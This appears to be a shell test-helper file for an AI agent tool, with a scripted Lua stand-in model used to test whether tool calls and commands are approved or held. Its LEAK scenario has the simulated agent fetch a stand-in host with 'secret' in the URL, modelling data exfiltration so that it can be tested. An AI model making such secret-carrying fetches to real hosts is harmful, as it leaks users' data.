# What the tests of consent share: an agent that was allowed everything, and runs of it in stores of their own. Sourced behind lib.sh. The file RAN
# is there where its command ran.
export HOME="$WORK/home" HOCKET_MODEL=sim HOCKET_SANDBOX=limits
unset XDG_STATE_HOME HOCKET_STORE
export HOCKET_TRUST="$WORK/ours" # what its code may do is in stored_code.sh
mkdir home ours
cat >ours/sim.lua <<'LUA'
local function count(q)
  local n, words = 0, q.system
  for _, message in ipairs(q.messages) do
    n, words = n + (message.role == "tool" and 1 or 0), words .. message.text
  end
  return n, words
end
return function(q)
  local n, words = count(q)
  if words:find "LOOK" and n == 0 then return { calls = { { name = "look", arguments = {} } } } end
  if words:find "ASK" and n == 0 then return { calls = { { name = "ask_user", arguments = { question = "Which colour?" } } } } end
  if words:find "SLOW" then return { text = "late", latency = 100 } end
  if words:find "NOTE" and n == 0 then return { calls = { { name = "write_file", arguments = { path = "note", content = "x" } } } } end
  if words:find "LEAK" and n < 4 then
    local fetch = { name = "web_fetch", arguments = { url = "https://leak.invalid/?q=secret" } }
    local steps = { { name = "read_file", arguments = { path = "helper.md" } }, fetch, { name = "ask_user", arguments = { question = "Which colour?" } }, fetch }
    return { calls = { steps[n + 1] } }
  end
  local refused = q.last.text:find "not allowed" or q.last.text:find "not done"
  if words:find "RUN" and not q.last.text:find "sandbox:" and (not refused or q.last.text:find "otherwise") then
    return { calls = { { name = "execute_command", arguments = { command = "touch RAN" } } } }
  end
  return "fine: " .. q.last.text
end
LUA
printf -- '---\nname: helper\ntools: [ask_user, execute_command, write_file, read_file, web_fetch]\n---\nYou help.\n' >ours/helper.md
cd ours || exit 1

ran() { if [ -e RAN ]; then rm RAN; else fail "the command should have run"; fi; }
held() { if [ -e RAN ]; then rm RAN; fail "the command ran"; fi; }
newest() { "$HOCKET" runs --json --store "$1" | grep -o '"id":"01[0-9A-Z]*' | cut -c7- | head -n 1; }
# A run of ours that waits for an answer, and has it: what it does next is up to whoever goes on.
ours() { # ours STORE OPTION…
  store=$1; shift
  run hocket run --trust --approve allow --store "$store" "$@" helper.md "ASK RUN"; expect 75
  id=$(newest "$store"); run hocket answer --store "$store" "$id" q1 blue; expect 0
}
resume() { run hocket resume --store "$@"; }
not_said() { hasnt err "does not count"; }
said() { [ "$(grep -c "does not count here" err)" = 1 ] || fail "what was cut is said once"; has err 'approve ["allow"]'; }
# A server, on the store a.db.
serves() { # serves VERDICT [OPTION…]: what it says to all that its clients' runs ask for
  rm -f serving; verdict=$1; shift
  "$HOCKET" serve --listen 127.0.0.1:0 --store a.db --approve "$verdict" --model sim "$@" helper.md >served 2>serving & server=$!
  until_true grep -qs '^serving' serving
  url=$(sed -n 's/^serving //p' serving) token=$(cat "$HOME/.local/state/hocket/serve-token")
}
api() { curl -sS --max-time 60 -H "Authorization: Bearer $token" -H 'content-type: application/json' "$@"; }
